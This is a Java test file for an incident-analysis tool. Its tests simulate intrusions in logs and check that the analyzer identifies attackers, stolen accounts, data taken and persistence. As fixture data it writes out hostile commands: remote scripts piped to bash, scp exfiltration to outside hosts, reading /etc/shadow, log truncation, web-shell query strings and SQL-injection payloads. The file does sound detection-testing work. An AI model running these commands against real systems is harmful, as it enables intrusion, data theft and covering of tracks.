package dwell.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dwell.cli.TextSite.Style;
import dwell.incident.Incident;
import dwell.incident.Origin;
import dwell.incident.Stamp;
import dwell.incident.Verdict;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Intrusions by ways in of every kind, among people at work: found whole, and nobody else is. */
final class IntrusionStoriesTest {
  private static final String OUTSIDE = "203.0.113.9";

  @TempDir private Path folder;

  private static List<String> addresses(Incident incident) {
    return incident.actors().stream()
        .flatMap(actor -> actor.addresses().stream())
        .map(Incident.ActorAddress::ip)
        .sorted()
        .toList();
  }

  private static @Nullable Instant instant(@Nullable Stamp stamp) {
    return stamp == null ? null : stamp.instant();
  }

  private static List<String> accounts(Incident incident) {
    return incident.actors().stream()
        .flatMap(actor -> actor.accounts().stream())
        .map(a -> a.name() + '@' + a.host() + ' ' + a.means())
        .sorted()
        .toList();
  }

  private static List<String> tables(Incident incident) {
    return incident.data().stream().map(d -> d.database() + '.' + d.table()).sorted().toList();
  }

  private static List<String> doors(Incident incident) {
    return incident.persistence().stream().map(p -> p.kind().id()).sorted().toList();
  }

  @ParameterizedTest
  @EnumSource
  void aWebShellAndThroughItTheDatabase(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 9);
    TextHost web = site.host("web01", "10.1.0.10");
    TextHost db = site.host("db01", "10.1.0.20");
    String agent = "python-requests/2.31.0";
    for (int i = 0; i < 40; i++) {
      web.request(
          TextSite.at("7 22:10:0" + i % 10),
          OUTSIDE,
          "GET /old" + i + "/setup.php",
          404,
          153,
          agent);
    }
    web.request(TextSite.at("7 22:31:05"), OUTSIDE, "POST /account/avatar.php", 200, 311, agent);
    String shell = "GET /uploads/me.php?c=";
    web.request(TextSite.at("7 22:31:40"), OUTSIDE, shell + "id", 200, 54, agent);
    web.request(TextSite.at("7 22:32:02"), OUTSIDE, shell + "uname%20-a", 200, 140, agent);
    web.request(
        TextSite.at("7 22:33:10"),
        OUTSIDE,
        shell + "cat%20/var/www/shop/config.php",
        200,
        412,
        agent);
    web.request(
        TextSite.at("7 22:36:00"),
        OUTSIDE,
        shell + "mysqldump%20-h%2010.1.0.20%20-u%20shop%20-px%20shop%20customers%20%3E%20/tmp/.s",
        200,
        0,
        agent);
    db.mysql(
        TextSite.at("7 22:36:00"),
        "shop",
        "10.1.0.10",
        "shop",
        "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).containsExactly(OUTSIDE);
    assertThat(tables(incident)).containsExactly("shop.customers");
    assertThat(doors(incident)).contains("web-shell");
    assertThat(accounts(incident)).contains("shop@db01 stolen", "www-data@web01 reached");
    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-07T22:31:05Z");
  }

  @ParameterizedTest
  @EnumSource
  void aStolenKeyWithoutAnyGuessing(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 12);
    TextHost web = site.host("web01", "10.1.0.10");
    web.login("10 21:14:07", 40, "alice", OUTSIDE, Ordinary.ALICE)
        .types("id")
        .sudo("cat /etc/shadow")
        .types("tar czf /tmp/w.tgz /srv/files")
        .types("scp /tmp/w.tgz x@" + OUTSIDE + ":in/")
        .types("rm -f /tmp/w.tgz");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(incident.origin()).isEqualTo(Origin.EXTERNAL);
    assertThat(addresses(incident)).containsExactly(OUTSIDE);
    assertThat(accounts(incident)).contains("alice@web01 stolen").noneMatch(a -> a.contains("bob"));
    assertThat(incident.exfiltration()).extracting(Incident.Exfiltration::to).contains(OUTSIDE);
    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-10T21:14:07Z");
    assertThat(incident.sessions()).hasSize(1);
  }

  @ParameterizedTest
  @EnumSource
  void mysqlReachedFromOutside(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 9);
    TextHost db = site.host("db01", "10.1.0.20");
    db.mysql(
        TextSite.at("8 02:10:00"),
        "shop",
        OUTSIDE,
        "shop",
        "select @@version_comment limit 1",
        "SHOW DATABASES",
        "SHOW TABLES",
        "SELECT * FROM customers",
        "SELECT * FROM payments");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).containsExactly(OUTSIDE);
    assertThat(accounts(incident)).containsExactly("shop@db01 unknown how");
    assertThat(tables(incident)).containsExactly("shop.customers", "shop.payments");
    assertThat(incident.dwell().firstAccess())
        .satisfies(t -> assertThat(t.instant()).isEqualTo("2025-03-08T02:10:00Z"));
  }

  @ParameterizedTest
  @EnumSource
  void postgresReachedFromOutside(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 9);
    TextHost db = site.host("db01", "10.1.0.20");
    db.postgres(
        TextSite.at("8 02:10:00"),
        "crm",
        OUTSIDE,
        "crm",
        "SELECT version();",
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';",
        "COPY public.contacts (id, name, mail) TO stdout;",
        "SELECT * FROM invoices;");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).containsExactly(OUTSIDE);
    assertThat(accounts(incident)).containsExactly("crm@db01 unknown how");
    assertThat(incident.data())
        .extracting(Incident.Data::table)
        .anyMatch(t -> t.endsWith("contacts"))
        .anyMatch(t -> t.endsWith("invoices"));
  }

  @ParameterizedTest
  @EnumSource
  void anInsiderWhoTakesFarMoreThanUsual(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 12);
    TextHost db = site.host("db01", "10.1.0.20");
    for (int day = 1; day <= 9; day++) {
      db.login(day + " 09:20:00", 30, "dora", "198.51.100.24", Ordinary.DORA)
          .types("mysql crm -e \"SELECT name FROM contacts WHERE id = " + day + '"');
      db.mysql(
          TextSite.at(day + " 09:20:46"),
          "dora",
          "localhost",
          "crm",
          "SELECT name FROM contacts WHERE id = " + day);
    }
    db.login("10 20:40:00", 30, "dora", "198.51.100.24", Ordinary.DORA)
        .types("mysqldump crm contacts invoices > /tmp/c.sql")
        .types("gzip /tmp/c.sql")
        .types("scp /tmp/c.sql.gz dora@203.0.113.88:")
        .types("rm /tmp/c.sql.gz");
    db.mysql(
        TextSite.at("10 20:40:46"),
        "dora",
        "localhost",
        "crm",
        "SHOW TABLES",
        "SELECT /*!40001 SQL_NO_CACHE */ * FROM `contacts`",
        "SELECT /*!40001 SQL_NO_CACHE */ * FROM `invoices`");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(incident.origin()).isEqualTo(Origin.INTERNAL);
    assertThat(accounts(incident))
        .contains("dora@db01 insider")
        .allMatch(a -> a.startsWith("dora@"));
    assertThat(tables(incident)).containsExactly("crm.contacts", "crm.invoices");
    assertThat(incident.exfiltration())
        .extracting(Incident.Exfiltration::to)
        .contains("203.0.113.88");
    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-10T20:40:00Z");
  }

  @ParameterizedTest
  @EnumSource
  void aLogEmptiedWhereWtmpStillKnows(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 12);
    TextHost web = site.host("web01", "10.1.0.10");
    for (int i = 0; i < 60; i++) {
      web.refuse(TextSite.at("9 19:" + (10 + i % 50) + ":05"), "bob", OUTSIDE, false);
    }
    web.login("9 20:40:00", 25, "bob", OUTSIDE, null)
        .sudo("cat /etc/shadow")
        .types("curl -s http://" + OUTSIDE + "/k.sh | bash")
        .sudo("truncate -s 0 /var/log/auth.log");
    web.emptied("var/log/auth.log", TextSite.at("9 20:42:20"));
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).containsExactly(OUTSIDE);
    assertThat(accounts(incident)).anyMatch(a -> a.startsWith("bob@web01"));
    assertThat(incident.tampering()).extracting(Incident.Tampering::host).contains("web01");
    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-09T20:40:00Z");
  }

  @ParameterizedTest
  @EnumSource
  void aLogThatStillKnowsTheEndOfWhatWasTakenOutOfIt(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 12);
    TextHost web = site.host("web01", "10.1.0.10");
    web.login("9 20:40:00", 25, "alice", OUTSIDE, Ordinary.ALICE)
        .types("curl -s http://" + OUTSIDE + "/k.sh | bash");
    web.emptied("var/log/auth.log", TextSite.at("9 06:25:00"), TextSite.at("9 20:50:00"));
    Incident incident = site.analyze(folder);
    assertThat(incident.tampering())
        .extracting(Incident.Tampering::path)
        .containsExactly("/var/log/auth.log");
    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-09T20:40:00Z");
  }

  @ParameterizedTest
  @EnumSource
  void twoActorsWhoHaveNothingInCommon(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 12);
    TextHost web = site.host("web01", "10.1.0.10");
    TextHost db = site.host("db01", "10.1.0.20");
    for (int i = 0; i < 80; i++) {
      String[] names = {"carl", "eve", "backup", "ops", "train"};
      db.refuse(
          TextSite.at("5 18:" + (10 + i % 45) + ":0" + i % 10), names[i % 5], OUTSIDE, i % 5 != 4);
    }
    db.login("5 18:59:00", 12, "train", OUTSIDE, null)
        .types("id")
        .types("cat /etc/passwd")
        .types("wget -q http://" + OUTSIDE + "/x -O /tmp/x")
        .types("chmod +x /tmp/x")
        .types("nohup /tmp/x &");
    String other = "192.0.2.77";
    web.request(
        TextSite.at("8 03:10:00"), other, "POST /account/avatar.php", 200, 311, "curl/8.5.0");
    web.request(
        TextSite.at("8 03:11:00"), other, "GET /uploads/a.php?x=uname%20-a", 200, 60, "curl/8.5.0");
    web.request(
        TextSite.at("8 03:12:00"),
        other,
        "GET /uploads/a.php?x=cat%20/etc/passwd",
        200,
        1760,
        "curl/8.5.0");
    Incident incident = site.analyze(folder);
    assertThat(incident.actors()).hasSize(2);
    assertThat(addresses(incident)).containsExactly(other, OUTSIDE);
  }

  @ParameterizedTest
  @EnumSource
  void slowGuessingFromManyAddresses(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 16);
    TextHost web = site.host("web01", "10.1.0.10");
    for (int i = 0; i < 90; i++) {
      web.refuse(
          TextSite.at(3 + i / 9 + " " + (10 + i % 9) + ":13:05"),
          "backup",
          "192.0." + i + ".14",
          false);
    }
    web.login("13 11:20:00", 15, "backup", "192.0.120.14", null)
        .types("id")
        .types("curl -s http://203.0.113.200/m.sh | bash")
        .types("crontab -l");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).contains("192.0.120.14").noneMatch(a -> a.startsWith("198."));
    assertThat(accounts(incident)).containsExactly("backup@web01 guessed");
    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-13T11:20:00Z");
  }

  @ParameterizedTest
  @EnumSource
  void sprayedThenBackByAKeyWeeksLater(Style style) throws IOException, NoSuchAlgorithmException {
    TextSite site = Ordinary.site(style, 30);
    TextHost web = site.host("web01", "10.1.0.10");
    for (int i = 0; i < 30; i++) {
      web.refuse(TextSite.at("6 20:" + (10 + i) + ":05"), "m" + i, OUTSIDE, true);
    }
    byte[] blob =
        "\0\0\0\13ssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef"
            .getBytes(StandardCharsets.ISO_8859_1);
    String text = Base64.getEncoder().encodeToString(blob);
    String print =
        Base64.getEncoder()
            .withoutPadding()
            .encodeToString(MessageDigest.getInstance("SHA-256").digest(blob));
    web.login("6 20:41:00", 10, "marta", OUTSIDE, null)
        .types("echo 'ssh-ed25519 " + text + " m' >> ~/.ssh/authorized_keys")
        .types("exit");
    web.login("27 23:05:00", 10, "marta", "192.0.2.200", print).types("id").types("ls /srv");
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).containsExactly("192.0.2.200", OUTSIDE);
    assertThat(accounts(incident)).containsExactly("marta@web01 guessed");
    assertThat(doors(incident)).containsExactly("authorized-key");
    assertThat(incident.sessions()).hasSize(2);
    assertThat(instant(incident.dwell().lastActivity())).isEqualTo("2025-03-27T23:15:00Z");
  }

  @ParameterizedTest
  @EnumSource
  void sqlThroughTheApplicationsOwnSession(Style style) throws IOException {
    TextSite site = Ordinary.site(style, 9);
    TextHost web = site.host("web01", "10.1.0.10");
    TextHost db = site.host("db01", "10.1.0.20");
    String agent = "sqlmap/1.7.11#stable (https://sqlmap.org)";
    String[] injected = {
      "1' AND SLEEP(5)-- -",
      "1' UNION SELECT table_name,2,3 FROM information_schema.tables-- -",
      "1' UNION SELECT mail,secret,3 FROM customers-- -",
    };
    for (int i = 0; i < injected.length; i++) {
      String time = "7 22:1" + i + ":04";
      String value = injected[i].replace("'", "%27").replace(' ', '+').replace("#", "%23");
      web.request(
          TextSite.at(time), OUTSIDE, "GET /item.php?id=" + value, 200, 4000 + i * 3000, agent);
      db.mysql(
          TextSite.at(time),
          "shop",
          "10.1.0.10",
          "shop",
          "SELECT id, title, price FROM items WHERE id = '" + injected[i] + "'");
    }
    Incident incident = site.analyze(folder);
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(addresses(incident)).containsExactly(OUTSIDE);
    assertThat(tables(incident)).containsExactly("shop.customers");
    assertThat(incident.vector()).satisfies(v -> assertThat(v.technique()).isEqualTo("T1190"));
    assertThat(instant(incident.dwell().firstContact())).isEqualTo("2025-03-07T22:10:04Z");
    assertThat(accounts(incident)).anyMatch(a -> a.startsWith("shop@db01"));
  }
}
